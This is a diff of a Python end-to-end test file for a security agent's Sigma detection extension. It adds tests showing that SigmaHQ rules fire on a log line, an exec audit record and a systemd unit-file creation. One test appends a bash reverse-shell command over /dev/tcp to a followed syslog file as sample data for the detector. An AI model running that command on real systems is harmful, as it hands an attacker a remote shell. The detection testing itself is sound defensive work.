@@ -1,5 +1,8 @@
 """The Sigma extension end to end: the real agent, the engine in its sandbox, rules staged by the agent
-from the operator's files, a real exec on the test's tmpfs, the finding in findings.jsonl."""
+from the operator's files, a real exec on the test's tmpfs, the finding in findings.jsonl. And the
+detection kinds: SigmaHQ's own rules (read from ../shared, never copied here) firing on a log line the
+log sensor follows, on an exec's EXECVE audit record, and on a file created in a directory the audit
+baseline watches."""
 
 from __future__ import annotations
 
@@ -18,6 +21,7 @@ import msgspec
 import pytest
 from tests.agent.helpers import scoped_config
 from tests.engines.sigma.build import rule
+from tests.engines.sigma.corpus import SIGMAHQ
 
 from ringfence.agent import Agent, AgentError, Config, Console
 from ringfence.agent._extensions import make_supervisor
@@ -201,3 +205,87 @@ def test_content_where_no_rule_loads_refuses_start_in_one_line(tmpfs, shared_dir
     assert "\n" not in message
     assert f"{rules_dir / 'broken.yml'}:2: error: YAML" in message  # where the parser saw the end
     assert agent.supervisor is None
+
+
+SIGMAHQ_LINUX = SIGMAHQ / "rules" / "linux"
+DEV_TCP = ("6cc5fceb-9a71-4c23-aeeb-963abe0b279c", SIGMAHQ_LINUX / "builtin" / "lnx_susp_dev_tcp.yml")
+USER_DISCOVERY = (
+    "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3",
+    SIGMAHQ_LINUX / "auditd" / "execve" / "lnx_auditd_user_discovery.yml",
+)
+SYSTEMD_UNIT = (
+    "1bac86ba-41aa-4f62-9d6b-405eac99b485",
+    SIGMAHQ_LINUX / "auditd" / "path" / "lnx_auditd_systemd_service_creation.yml",
+)
+needs_sigmahq = pytest.mark.skipif(not SIGMAHQ_LINUX.is_dir(), reason="../shared/data/sigmahq is not there")
+
+
+def detection_config(tmpfs: Path, shared_dir: Path, rules: list[Path], **sensors: Any) -> Config:
+    config = config_for(tmpfs, shared_dir, {p.name: p for p in rules})
+    return msgspec.structs.replace(config, sensors=msgspec.structs.replace(config.sensors, **sensors))
+
+
+def _is_finding_of(rule_id: str, marker: str) -> Callable[[dict], bool]:
+    """The rule's finding whose evidence (process, or the event it names) carries the marker."""
+
+    def match(doc: dict) -> bool:
+        return doc["finding_info"].get("analytic", {}).get("name") == rule_id and marker in json.dumps(doc)
+
+    return match
+
+
+def _is_rule(rule_id: str) -> Callable[[dict], bool]:
+    return lambda doc: doc["finding_info"].get("analytic", {}).get("name") == rule_id
+
+
+@needs_sigmahq
+def test_sigmahq_keyword_rule_fires_on_a_line_appended_to_a_followed_log(agents, tmpfs, shared_dir) -> None:
+    rule_id, path = DEV_TCP
+    log = shared_dir / "syslog"
+    log.write_text("Dec  2 06:00:00 h sshd[1]: an old line, before the agent\n")
+    config = detection_config(
+        tmpfs, shared_dir, [path], logs=True, log_files=(str(log),), log_source="files", audit_events=False
+    )
+    agent = start(agents, config)
+    assert _extension(agent).state == "running"
+    marker = uuid.uuid4().hex[:12]
+    with log.open("a") as f:
+        f.write(f"Dec  2 06:00:01 h bash[4242]: echo {marker}; bash -i >& /dev/tcp/10.9.9.9/4444 0>&1\n")
+    finding = _findings(agent, _is_rule(rule_id))
+    assert finding["severity_id"] == 3  # the rule's level: medium
+    assert "lnx_susp_dev_tcp.yml" in finding["finding_info"]["desc"]
+    uid = finding["finding_info"]["related_events"][0]["uid"]
+    events = Path(agent.state_dir) / "events.jsonl"
+    # the finding names the log line it came from
+    assert _eventually(lambda: any(uid in x and marker in x for x in events.read_text().splitlines()))
+
+
+@needs_sigmahq
+def test_sigmahq_auditd_rule_fires_on_the_execve_record_of_a_real_exec(agents, tmpfs, shared_dir) -> None:
+    rule_id, path = USER_DISCOVERY
+    config = detection_config(tmpfs, shared_dir, [path], logs=False, audit_events=True, audit_events_all=True)
+    agent = start(agents, config)
+    marker = f"rf-{uuid.uuid4().hex[:12]}"
+    # whoami refuses the operand, after the exec: its EXECVE record still says a0=whoami a1=<marker>
+    subprocess.run(["whoami", marker], capture_output=True, timeout=30, check=False)
+    finding = _findings(agent, _is_finding_of(rule_id, marker))
+    assert finding["severity_id"] == 2  # level: low
+    assert "T1033" in finding["finding_info"]["desc"]
+
+
+@needs_sigmahq
+def test_sigmahq_auditd_rule_fires_on_a_unit_file_created_under_the_audit_baselines_watch(
+    agents, tmpfs, shared_dir
+) -> None:
+    rule_id, path = SYSTEMD_UNIT
+    config = detection_config(tmpfs, shared_dir, [path], logs=False, audit_events=True, audit_baseline=True)
+    agent = start(agents, config)
+    marker = f"rf-sigma-e2e-{uuid.uuid4().hex[:12]}"
+    unit = Path("/etc/systemd/system") / f"{marker}.not-a-unit"
+    try:
+        subprocess.run(["touch", str(unit)], check=True, timeout=30)
+        finding = _findings(agent, _is_finding_of(rule_id, marker))
+    finally:
+        unit.unlink(missing_ok=True)
+    assert finding["severity_id"] == 3  # level: medium
+    assert "T1543.002" in finding["finding_info"]["desc"]
